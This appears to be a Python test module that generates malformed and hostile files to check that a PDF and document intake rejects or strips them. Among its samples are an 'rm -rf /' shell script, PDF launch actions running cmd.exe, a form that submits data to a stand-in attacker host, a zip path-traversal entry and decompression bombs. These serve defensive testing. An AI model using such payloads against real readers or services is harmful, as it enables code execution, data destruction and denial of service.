"""Hostile files of our own making, each with what must come of it; nothing of them is kept in the repository."""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass

from pypdf import PdfWriter

from documents.office.refusals import BrokenOffice, HasMacros
from documents.pdf.refusals import (
    BrokenPdf,
    BrokenPicture,
    CutOffPdf,
    EncryptedPdf,
    ForeignContent,
    NotPdf,
    Timeout,
    TooManyPages,
    TooManyPixels,
)
from people.refusals import Refusal
from tests.documents.pdf import samples

JS = b"<</S/JavaScript/JS(app.alert\\(1\\))>>"
LAUNCH = b"<</S/Launch/F(cmd.exe)/Win<</F(cmd.exe)/P(/c calc)>>>>"
RECT = b"/Rect[0 0 90 90]"


@dataclass(frozen=True)
class Hostile:
    """A file: `refused` are the refusals of which it meets one; without, it is taken in and `removed` were in it.

    `either`: it is mended or refused, whichever the reader does.
    """

    name: str
    make: Callable[[], bytes]
    refused: tuple[type[Refusal], ...] = ()
    removed: tuple[str, ...] = ()
    either: bool = False

    def __str__(self) -> str:
        return self.name


def page(root: bytes = b"", on_page: bytes = b"", extra: tuple[bytes, ...] = (), box: bytes = b"0 0 595 842") -> bytes:
    """A PDF of one page; `root` and `on_page` are entries of the catalogue and the page, `extra` objects from 5 on."""
    return samples.assembled(
        [
            b"<</Type/Catalog/Pages 2 0 R" + root + b">>",
            b"<</Type/Pages/Kids[4 0 R]/Count 1>>",
            b"<</Length 0>>stream\n\nendstream",
            b"<</Type/Page/Parent 2 0 R/MediaBox[" + box + b"]/Resources<<>>/Contents 3 0 R" + on_page + b">>",
            *extra,
        ]
    )


def annotated(annotation: bytes, extra: tuple[bytes, ...] = ()) -> bytes:
    """A page with one annotation, object 5."""
    return page(on_page=b"/Annots[5 0 R]", extra=(b"<</Type/Annot" + RECT + annotation + b">>", *extra))


def field(entries: bytes, action: bytes = b"") -> bytes:
    """A form with one button or field."""
    widget = b"/Subtype/Widget/FT/Btn/Ff 65536/T(a)" + entries + action
    return page(
        root=b"/AcroForm<</Fields[5 0 R]>>",
        on_page=b"/Annots[5 0 R]",
        extra=(b"<</Type/Annot" + RECT + widget + b">>",),
    )


def packed(catalogue_entries: bytes) -> bytes:
    """The catalogue inside an object stream, where a look at the bytes does not see it."""
    inner = b"<</Type/Catalog/Pages 2 0 R" + catalogue_entries + b">>"
    body = zlib.compress(b"1 0 " + inner)
    kept = {
        2: b"<</Type/Pages/Kids[4 0 R]/Count 1>>",
        4: b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Resources<<>>>>",
        5: b"<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>stream\n" % len(body) + body + b"\nendstream",
    }
    out, places = bytearray(b"%PDF-1.7\n"), {}
    for number, text in kept.items():
        places[number] = len(out)
        out += b"%d 0 obj\n" % number + text + b"\nendobj\n"
    start = len(out)
    rows = [(0, 0, 255), (2, 5, 0), (1, places[2], 0), (0, 0, 0), (1, places[4], 0), (1, places[5], 0), (1, start, 0)]
    table = b"".join(struct.pack(">BHB", *row) for row in rows)
    out += b"6 0 obj\n<</Type/XRef/Size 7/W[1 2 1]/Root 1 0 R/Length %d>>stream\n" % len(table) + table
    return bytes(out + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % start)


def attached() -> bytes:
    writer = PdfWriter(clone_from=io.BytesIO(samples.text_pdf()))
    writer.add_attachment("cmd.exe", b"MZ-evil")
    return samples.written(writer)


def zipped(names: tuple[str, ...], size: int = 10) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name in names:
            archive.writestr(name, b"0" * size)
    return out.getvalue()


def flate(levels: int, megabytes: int) -> bytes:
    """A page whose content is blanks, packed several times over."""
    packer = zlib.compressobj(9)
    data = b"".join(packer.compress(b" " * 1024 * 1024) for _ in range(megabytes)) + packer.flush()
    for _ in range(levels - 1):
        data = zlib.compress(data, 9)
    filters = b"/FlateDecode" * levels
    stream = b"<</Filter[" + filters + b"]/Length %d>>stream\n" % len(data) + data + b"\nendstream"
    return samples.assembled(
        [
            b"<</Type/Catalog/Pages 2 0 R>>",
            b"<</Type/Pages/Kids[4 0 R]/Count 1>>",
            stream,
            b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Resources<<>>/Contents 3 0 R>>",
        ]
    )


def picture(width: int, height: int, chunks: bytes = b"", data: bytes | None = None) -> bytes:
    """A grey PNG that claims this size; `data` are its packed rows, all black if None."""

    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    rows = zlib.compress(bytes((width + 1) * height)) if data is None else data
    head = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + head + chunks + chunk(b"IDAT", rows) + chunk(b"IEND", b"")


def tree(pages: bytes, kid: bytes = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>") -> bytes:
    return samples.assembled([b"<</Type/Catalog/Pages 2 0 R>>", pages, kid])


def nested(levels: int) -> bytes:
    """A tree of pages with one branch, this deep."""
    nodes = [
        b"<</Type/Pages/Parent %d 0 R/Kids[%d 0 R]/Count 1>>" % (max(2, number - 1), number + 1)
        for number in range(2, levels + 2)
    ]
    leaf = b"<</Type/Page/Parent %d 0 R/MediaBox[0 0 595 842]>>" % (levels + 1)
    return samples.assembled([b"<</Type/Catalog/Pages 2 0 R>>", *nodes, leaf])


GOOD = samples.blank_pdf()
ANY_BROKEN = (BrokenPdf, Timeout)


def of_another_kind() -> list[Hostile]:
    """What is no PDF, or is something else as well."""
    files: dict[str, bytes] = {
        "empty": b"",
        "zeros": bytes(4096),
        "blanks": b" \r\n" * 99,
        "plain text": "Kính gửi đồng chí".encode(),
        "random bytes": bytes(range(1, 256)) + bytes(40),
        "web page": b"<!doctype html><script>alert(1)</script>",
        "web page behind a mark": b"\xef\xbb\xbf <HTML><body onload=alert(1)>",
        "script": b"<script>alert(1)</script>",
        "Windows program": b"MZ\x90\x00" + bytes(200),
        "Linux program": b"\x7fELF\x02\x01\x01" + bytes(200),
        "shell script": b"#!/bin/sh\nrm -rf /\n",
        "RAR": b"Rar!\x1a\x07\x01\x00" + bytes(50),
        "7z": b"7z\xbc\xaf\x27\x1c" + bytes(50),
        "gzip bomb": b"\x1f\x8b\x08\x00" + zlib.compress(bytes(1024 * 1024)),
        "zip": zipped(("a.pdf",)),
        "zip bomb": zipped(("a",), 20 * 1024 * 1024),
        "zip in a zip": zipped(("b.zip", "../../etc/passwd")),
        "Word with macros": zipped(("[Content_Types].xml", "word/document.xml", "word/vbaProject.bin")),
        "Excel with macros": zipped(("[Content_Types].xml", "xl/workbook.xml", "xl/vbaProject.bin")),
        "PowerPoint": zipped(("[Content_Types].xml", "ppt/presentation.xml")),
        "old Word": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600),
        "RTF with an object": b"{\\rtf1{\\object\\objupdate 4d5a}}",
        "GIF and PDF": b"GIF89a/*" + GOOD,
        "HEIC": b"\x00\x00\x00\x18ftypheic" + bytes(40),
        "line before a PDF": b"\n" + GOOD,
        "web page before a PDF": b"<html>" + GOOD,
        "program before a PDF": b"MZ\x90\x00" + GOOD,
        "zip before a PDF": zipped(("a.txt",)) + GOOD,
        "comment before a PDF": b"/*" + GOOD + b"*/",
    }
    # Where LibreOffice is on the machine, it is asked what it makes of documents.
    kinds = (NotPdf, HasMacros, BrokenOffice)
    made = [Hostile(name, lambda data=data: data, kinds) for name, data in files.items()]  # type: ignore[misc]
    tails = {
        "zip behind a PDF": zipped(("a.txt",)),
        "zip behind a PDF, with an end mark": zipped(("a.txt",))[:-2] + b"\x06\x00%%EOF\n",
        "web page behind a PDF": b"<script>alert(1)</script>",
        "program behind a PDF": b"MZ\x90\x00" + bytes(90) + b"!",
        "one letter behind a PDF": b"x",
    }
    return made + [
        Hostile(name, lambda tail=tail: GOOD + tail, (ForeignContent,))  # type: ignore[misc]
        for name, tail in tails.items()
    ]


def broken() -> list[Hostile]:
    """PDFs that end too soon, turn in circles, or lie about themselves."""
    data = samples.text_pdf(3)
    return [
        Hostile("a tenth of a PDF", lambda: data[: len(data) // 10], (CutOffPdf,)),
        Hostile("all but the end", lambda: data[:-8], (CutOffPdf,)),
        Hostile("an update that breaks off", lambda: GOOD + b"9 0 obj\n<</Type", (CutOffPdf,)),
        Hostile("longer than it is", lambda: tree(b"<</Linearized 1/L 99999/N 1>>"), (CutOffPdf, BrokenPdf)),
        Hostile("a head alone", lambda: b"%PDF-1.7\n%%EOF", ANY_BROKEN),
        Hostile("a head and noise", lambda: b"%PDF-1.7\n" + bytes(range(256)) * 40 + b"\n%%EOF", ANY_BROKEN),
        Hostile("no pages", lambda: tree(b"<</Type/Pages/Kids[]/Count 0>>"), ANY_BROKEN),
        Hostile("minus one page", lambda: tree(b"<</Type/Pages/Kids[3 0 R]/Count -1>>"), either=True),
        Hostile("a billion pages", lambda: tree(b"<</Type/Pages/Kids[3 0 R]/Count 1000000000>>"), either=True),
        Hostile("2,001 pages", lambda: samples.blank_pdf(2001), (TooManyPages,)),
        Hostile("pages that hold themselves", lambda: tree(b"<</Type/Pages/Kids[2 0 R]/Count 1>>"), ANY_BROKEN),
        Hostile("pages nested 1,500 deep", lambda: nested(1500), ANY_BROKEN),
        Hostile("a page of another type", lambda: samples.with_bad_page(2, 1), ANY_BROKEN),
        Hostile("a page without extent", lambda: page(box=b"0 0 0 0"), either=True),
        Hostile("a page too small to see", lambda: samples.blank_pdf(width=0.5), ANY_BROKEN),
        Hostile("no catalogue", lambda: samples.assembled([b"null"]), ANY_BROKEN),
        Hostile("a password", lambda: samples.encrypted_pdf("bi-mat"), (EncryptedPdf,)),
        Hostile(
            "an unknown lock",
            lambda: GOOD.replace(b"/Root", b"/Encrypt<</Filter/Nobody/V 9/R 9>>/Root"),
            (EncryptedPdf, BrokenPdf),
        ),
    ]


def bombs() -> list[Hostile]:
    """What takes more time or memory than a paper may."""
    return [
        Hostile("a stream that swells to 700 MB", lambda: samples.swelling_pdf(700), (Timeout,)),
        Hostile("packed twice, 700 MB", lambda: flate(2, 700), (Timeout,)),
        Hostile("packed three times, 700 MB", lambda: flate(3, 700), (Timeout, BrokenPdf)),
        Hostile("10^12 strokes", samples.endless_pdf, (Timeout,)),
        Hostile("a picture of 10^9 points", lambda: picture(32_000, 32_000, data=b"x"), (TooManyPixels, BrokenPicture)),
        Hostile("a picture that breaks off", lambda: picture(90, 90)[:-40], either=True),
        Hostile("a picture of noise", lambda: picture(90, 90, data=b"noise"), (BrokenPicture,)),
        Hostile("a TIFF of noise", lambda: b"II*\x00" + bytes(range(200)), (BrokenPicture,)),
        Hostile("a JPEG head alone", lambda: b"\xff\xd8\xff\xe0" + bytes(60), (BrokenPicture,)),
    ]


def acting() -> list[Hostile]:
    """What is taken in without what it would do."""
    names = b"/Names<</JavaScript<</Names[(a)" + JS + b"]>>>>"
    remote = b"/Subtype/Link/A<</S/%s/F(other.pdf)/D[0/Fit]>>"
    return [
        Hostile("a script at opening", lambda: page(root=b"/OpenAction" + JS), removed=("script",)),
        Hostile("a script by name", lambda: page(root=names), removed=("script",)),
        Hostile("a script in an object stream", lambda: packed(b"/OpenAction" + JS), removed=("script",)),
        Hostile(
            "a script spelled in figures",
            lambda: page(root=b"/OpenAction<</S/#4AavaScr#69pt/J#53(app.alert\\(1\\))>>"),
            removed=("script",),
        ),
        Hostile(
            "a script in a stream",
            lambda: page(
                root=b"/OpenAction<</S/JavaScript/JS 5 0 R>>", extra=(b"<</Length 3>>stream\n1+1\nendstream",)
            ),
            removed=("script",),
        ),
        Hostile(
            "a script when the page opens", lambda: page(on_page=b"/AA<</O" + JS + b">>"), removed=("script", "opening")
        ),
        Hostile(
            "a script when it is closed", lambda: page(root=b"/AA<</WC" + JS + b">>"), removed=("script", "opening")
        ),
        Hostile("a script in a link", lambda: annotated(b"/Subtype/Link/A" + JS), removed=("script",)),
        Hostile("a script in a field", lambda: field(b"", b"/AA<</K" + JS + b">>"), removed=("script", "opening")),
        Hostile("a script in a button", lambda: field(b"", b"/A" + JS), removed=("script",)),
        Hostile(
            "a script after another action",
            lambda: annotated(b"/Subtype/Link/A<</S/Named/N/NextPage/Next" + JS + b">>"),
            removed=("script",),
        ),
        Hostile("a program at opening", lambda: page(root=b"/OpenAction" + LAUNCH), removed=("launch",)),
        Hostile("a program in a link", lambda: annotated(b"/Subtype/Link/A" + LAUNCH), removed=("launch",)),
        Hostile("an attached program", attached, removed=("files",)),
        Hostile(
            "an attachment on a page",
            lambda: annotated(
                b"/Subtype/FileAttachment/FS<</Type/Filespec/F(cmd.exe)/EF<</F 6 0 R>>>>",
                (b"<</Type/EmbeddedFile/Length 7>>stream\nMZ-evil\nendstream",),
            ),
            removed=("files",),
        ),
        Hostile(
            "a form that sends", lambda: field(b"", b"/A<</S/SubmitForm/F(http://evil.example/)>>"), removed=("form",)
        ),
        Hostile("a form that fetches", lambda: field(b"", b"/A<</S/ImportData/F(a.fdf)>>"), removed=("form",)),
        Hostile(
            "a form of another kind (XFA)",
            lambda: page(root=b"/AcroForm<</Fields[]/XFA 5 0 R>>", extra=(b"<</Length 6>>stream\n<xdp/>\nendstream",)),
            removed=("form",),
        ),
        Hostile("a link to another file", lambda: annotated(remote % b"GoToR"), removed=("remote",)),
        Hostile("a link into an attachment", lambda: annotated(remote % b"GoToE"), removed=("remote",)),
        Hostile("a film", lambda: annotated(b"/Subtype/Movie/Movie<</F(a.avi)>>"), removed=("media",)),
        Hostile("a sound", lambda: annotated(b"/Subtype/Link/A<</S/Sound/Sound 3 0 R>>"), removed=("media",)),
        Hostile("a rendition", lambda: annotated(b"/Subtype/Screen/A<</S/Rendition/OP 0>>"), removed=("media",)),
        Hostile("rich media", lambda: annotated(b"/Subtype/RichMedia/RichMediaContent<<>>"), removed=("media",)),
        Hostile("a picture with a script behind", lambda: picture(90, 90) + b"<script>alert(1)</script>"),
        Hostile("a picture with a zip behind", lambda: picture(90, 90) + zipped(("a.txt",))),
        Hostile(
            "a picture with a script inside",
            lambda: picture(90, 90, b"\x00\x00\x00\x05tEXtJS\x00/J" + struct.pack(">I", zlib.crc32(b"tEXtJS\x00/J"))),
        ),
        Hostile("a link to a web address", lambda: annotated(b"/Subtype/Link/A<</S/URI/URI(http://a.example/)>>")),
        Hostile("an empty password", lambda: samples.encrypted_pdf("")),
        Hostile(
            "an outline in a circle",
            lambda: page(
                root=b"/Outlines<</First 5 0 R/Last 5 0 R>>",
                extra=(b"<</Title(a)/Next 5 0 R/First 5 0 R/Parent 5 0 R>>",),
            ),
        ),
    ]


EVERY = [*of_another_kind(), *broken(), *bombs(), *acting()]
